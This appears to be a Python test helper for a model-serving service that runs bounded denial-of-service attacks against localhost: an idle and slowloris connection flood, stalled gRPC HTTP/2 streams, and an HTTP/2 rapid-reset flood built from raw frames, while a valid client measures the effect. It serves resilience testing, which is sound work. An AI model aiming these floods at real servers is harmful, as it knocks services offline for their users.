"""Resource attacks on a running service, each bounded in count and time (issue 27's attack list).

* :func:`connection_flood`: many TCP connections that send nothing, or trickle a request head at a
  byte a second (slowloris), each opened again when the server closes it; records when the server
  closed the first ones;
* :func:`stalled_grpc_streams`: HTTP/2 connections full of ModelInfer calls that send HEADERS and
  never a message;
* :func:`rapid_reset`: HTTP/2 HEADERS + RST_STREAM floods.

Each runs in a process of its own (``python tests/attacks.py ...``, :func:`run_attack`) so that the
test's valid client shares neither its event loop nor its GIL. Everything talks to 127.0.0.1 only, and
stops by itself.
"""

from __future__ import annotations

import asyncio
import json
import resource
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path


def allow_open_files(count: int) -> None:
    """Raise this process's soft open-file limit so ``count`` sockets fit (up to the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + 256
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard) if hard != resource.RLIM_INFINITY else wanted, hard))


# --- valid traffic ---------------------------------------------------------------------------------


@dataclass
class Probe:
    """What a valid client saw while an attack ran: status and seconds of every call."""

    answers: list[tuple[int, float]] = field(default_factory=list)

    @property
    def ok_share(self) -> float:
        return sum(1 for status, _ in self.answers if status == 200) / max(1, len(self.answers))

    @property
    def slowest_s(self) -> float:
        return max((seconds for _, seconds in self.answers), default=0.0)

    def summary(self) -> str:
        statuses: dict[int, int] = {}
        for status, _ in self.answers:
            statuses[status] = statuses.get(status, 0) + 1
        return f"{len(self.answers)} valid calls, statuses {statuses}, slowest {self.slowest_s:.2f} s"


# --- idle and slow connections ---------------------------------------------------------------------


@dataclass
class FloodResult:
    """Per attacker, seconds from opening its first connection to the server's close of it (None: the
    server never closed it while the flood lasted)."""

    opened: int
    closed_after_s: list[float | None]

    @property
    def still_open(self) -> int:
        return sum(1 for seconds in self.closed_after_s if seconds is None)

    @property
    def latest_close_s(self) -> float:
        return max((s for s in self.closed_after_s if s is not None), default=0.0)


async def _attacker(port: int, trickle: bool, hold_s: float, ready: asyncio.Queue[None]) -> float | None:
    """One attacker: a connection that stays silent, or trickles a head a byte a second, opened again
    each time the server closes it, until ``hold_s``; the seconds until the server closed the first."""
    head = b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10_000
    started = time.monotonic()
    first_close: float | None = None
    announced = False
    while time.monotonic() - started < hold_s:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened = time.monotonic()
        if not announced:
            announced = True
            await ready.put(None)
        position = 0
        try:
            while time.monotonic() - started < hold_s:
                if trickle and position < len(head):
                    writer.write(head[position:position + 1])
                    position += 1
                try:
                    data = await asyncio.wait_for(reader.read(65536), 1.0)
                except asyncio.TimeoutError:
                    continue
                if not data:  # closed by the server (an answer, 408, may come first)
                    break
        except OSError:
            pass
        finally:
            writer.close()
        if time.monotonic() - started < hold_s and first_close is None:
            first_close = time.monotonic() - opened
    if not announced:
        await ready.put(None)
    return first_close


async def connection_flood(port: int, count: int, *, trickle: bool, hold_s: float) -> FloodResult:
    """``count`` attackers, each reconnecting when the server closes it, for ``hold_s``."""
    allow_open_files(count)
    ready: asyncio.Queue[None] = asyncio.Queue()
    attackers = [asyncio.ensure_future(_attacker(port, trickle, hold_s, ready)) for _ in range(count)]
    for _ in range(count):
        await ready.get()
    print("ready", flush=True)
    return FloodResult(count, list(await asyncio.gather(*attackers)))


def run_attack(*arguments: str) -> subprocess.Popen[str]:
    """Start ``python tests/attacks.py <arguments>`` (an attack in a process of its own, so the test's
    valid client shares neither its event loop nor its GIL); returns once it says it is under way."""
    process = subprocess.Popen([sys.executable, str(Path(__file__)), *arguments], stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    if arguments[0] in ("flood", "upload"):
        assert process.stdout.readline().strip() == "ready"
    return process


def attack_result(process: subprocess.Popen[str], timeout_s: float = 120.0) -> dict[str, object]:
    """The JSON line an attack process prints when it is done."""
    output, _ = process.communicate(timeout=timeout_s)
    assert process.returncode == 0, output
    return json.loads(output.strip().splitlines()[-1])  # type: ignore[no-any-return]


def probe_while(process: subprocess.Popen[str], call: Callable[[], int], interval_s: float = 0.05) -> Probe:
    """Call ``call`` (a status, 0 on a transport error) in a loop until ``process`` ends."""
    probe = Probe()
    while process.poll() is None:
        started = time.perf_counter()
        try:
            status = call()
        except Exception:  # noqa: BLE001 - any failure of a valid call counts as one
            status = 0
        probe.answers.append((status, time.perf_counter() - started))
        time.sleep(interval_s)
    return probe


def http_status(port: int, request: bytes, timeout_s: float = 10.0) -> int:
    """Send one ``Connection: close`` request and return its status (0 when none came)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as connection:
        connection.sendall(request)
        raw = b""
        while chunk := connection.recv(65536):
            raw += chunk
    parts = raw.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


# --- gRPC ------------------------------------------------------------------------------------------

MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"


_GRPC_STATUS = {"0": "OK", "1": "CANCELLED", "4": "DEADLINE_EXCEEDED", "8": "RESOURCE_EXHAUSTED",
                "14": "UNAVAILABLE", "16": "UNAUTHENTICATED"}
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 1, 3, 4, 6, 7
_END_HEADERS, _ACK = 0x4, 0x1


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


class RawH2:
    """A bare HTTP/2 client connection: writes prebuilt frames fast (the h2 package's state machine
    took 0.8 ms a stream, too slow to press a server) and reads the server's frames into outcomes."""

    def __init__(self, port: int, metadata: tuple[tuple[str, str], ...] = ()) -> None:
        import hpack

        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        headers = [(":method", "POST"), (":scheme", "http"), (":path", MODEL_INFER),
                   (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers"),
                   *metadata]
        encoder = hpack.Encoder()
        self._blocks = [encoder.encode(headers), encoder.encode(headers)]  # the second: all indexed, reusable
        self._decoder = hpack.Decoder()
        self._next = 1
        self._pending = b""
        #: Calls the server has ended (with a gRPC status) since the last :meth:`take_ended`.
        self.ended = 0

    def take_ended(self) -> int:
        ended, self.ended = self.ended, 0
        return ended

    def open_streams(self, count: int, *, reset: bool = False) -> None:
        """HEADERS for ``count`` new ModelInfer calls (no message), each followed by RST_STREAM(CANCEL) if ``reset``."""
        frames = []
        for _ in range(count):
            block = self._blocks[0] if self._next == 1 else self._blocks[1]
            frames.append(_frame(_HEADERS, _END_HEADERS, self._next, block))
            if reset:
                frames.append(_frame(_RST_STREAM, 0, self._next, (8).to_bytes(4, "big")))
            self._next += 2
        self.sock.sendall(b"".join(frames))

    def outcomes(self, wait_s: float) -> list[str]:
        """What the server said within ``wait_s``: a gRPC status name per call it ended, ``refused
        (HTTP/2 error N)`` per stream it reset; raises ``ConnectionError`` when it closed the connection."""
        self.sock.settimeout(wait_s)
        try:
            received = self.sock.recv(1 << 20)
        except TimeoutError:
            return []
        if not received:
            raise ConnectionError("closed by the server")
        data = self._pending + received
        found, replies, position = [], [], 0
        while position + 9 <= len(data):
            length = int.from_bytes(data[position:position + 3], "big")
            if position + 9 + length > len(data):
                break
            kind, flags = data[position + 3], data[position + 4]
            payload = data[position + 9:position + 9 + length]
            position += 9 + length
            if kind == _HEADERS:
                fields = dict(self._decoder.decode(payload))
                if "grpc-status" in fields:
                    found.append(_GRPC_STATUS.get(fields["grpc-status"], f"status {fields['grpc-status']}"))
                    self.ended += 1
            elif kind == _RST_STREAM and int.from_bytes(payload, "big"):
                found.append(f"refused (HTTP/2 error {int.from_bytes(payload, 'big')})")
            elif kind == _SETTINGS and not flags & _ACK:
                replies.append(_frame(_SETTINGS, _ACK, 0))
            elif kind == _PING and not flags & _ACK:
                replies.append(_frame(_PING, _ACK, 0, payload))
            elif kind == _GOAWAY:
                found.append(f"GOAWAY (HTTP/2 error {int.from_bytes(payload[4:8], 'big')})")
        self._pending = data[position:]
        if replies:
            self.sock.sendall(b"".join(replies))
        return found

    def close(self) -> None:
        self.sock.close()


def _press(port: int, connections: int, hold_s: float, turn: Callable[[RawH2, int], int],
           metadata: tuple[tuple[str, str], ...] = ()) -> dict[str, int]:
    """Run ``turn(connection, index)`` over ``connections`` raw connections until ``hold_s`` passes
    (a connection the server closes is replaced); ``turn`` returns how many streams it opened."""
    tally: dict[str, int] = {"streams opened": 0}
    opened = [RawH2(port, metadata) for _ in range(connections)]
    deadline = time.monotonic() + hold_s
    try:
        while time.monotonic() < deadline:
            for index, connection in enumerate(opened):
                try:
                    tally["streams opened"] += turn(connection, index)
                    for outcome in connection.outcomes(0.01):
                        tally[outcome] = tally.get(outcome, 0) + 1
                except OSError:
                    connection.close()
                    tally["connections closed by the server"] = tally.get("connections closed by the server", 0) + 1
                    opened[index] = RawH2(port, metadata)
    finally:
        for connection in opened:
            connection.close()
    return tally


def stalled_grpc_streams(port: int, connections: int, streams: int, hold_s: float,
                         metadata: tuple[tuple[str, str], ...] = ()) -> dict[str, int]:
    """``connections`` HTTP/2 connections, each sending HEADERS for ``streams`` ModelInfer calls and never a
    message, for ``hold_s``: each call the server ends is opened again, so the connection keeps asking
    for ``streams``. Returns how the server ended them (a gRPC status name, or the HTTP/2 reset of a
    stream it refused)."""

    def turn(connection: RawH2, index: int) -> int:
        count = streams if connection._next == 1 else connection.take_ended()
        if count:
            connection.open_streams(count)
        return count

    return _press(port, connections, hold_s, turn, metadata)


def rapid_reset(port: int, connections: int, seconds: float, batch: int = 200) -> dict[str, int]:
    """HTTP/2 rapid reset: on each connection, HEADERS for a ModelInfer call and RST_STREAM(CANCEL) at
    once, ``batch`` streams a write, for ``seconds``; returns the streams opened and what came back."""

    def turn(connection: RawH2, index: int) -> int:
        connection.open_streams(batch, reset=True)
        return batch

    return _press(port, connections, seconds, turn)


def main(argv: list[str]) -> None:
    """``python tests/attacks.py flood PORT COUNT idle|slowloris HOLD_S``, ``... grpc-stall PORT CONNECTIONS
    STREAMS HOLD_S [KEY]``, ``... rapid-reset PORT CONNECTIONS SECONDS`` or ``... upload PORT FILE COUNT``;
    prints one JSON line."""
    kind, port = argv[0], int(argv[1])
    if kind == "upload":  # upload PORT FILE COUNT: POST FILE's bytes as image/png COUNT times, one by one
        from load import raw_http_request

        request = raw_http_request(port, "/predict?model=resnet20", Path(argv[2]).read_bytes(),
                                   {"content-type": "image/png"})
        print("ready", flush=True)
        print(json.dumps({"statuses": [http_status(port, request, timeout_s=60) for _ in range(int(argv[3]))]}))
    elif kind == "flood":
        result = asyncio.run(connection_flood(port, int(argv[2]), trickle=argv[3] == "slowloris", hold_s=float(argv[4])))
        print(json.dumps({"still_open": result.still_open, "latest_close_s": result.latest_close_s}))
    elif kind == "grpc-stall":
        key = argv[5] if len(argv) > 5 else None
        metadata = (("authorization", f"Bearer {key}"),) if key else ()
        print(json.dumps(stalled_grpc_streams(port, int(argv[2]), int(argv[3]), float(argv[4]), metadata)))
    elif kind == "rapid-reset":
        print(json.dumps(rapid_reset(port, int(argv[2]), float(argv[3]))))
    else:
        raise SystemExit(f"unknown attack {kind!r}")


if __name__ == "__main__":
    main(sys.argv[1:])
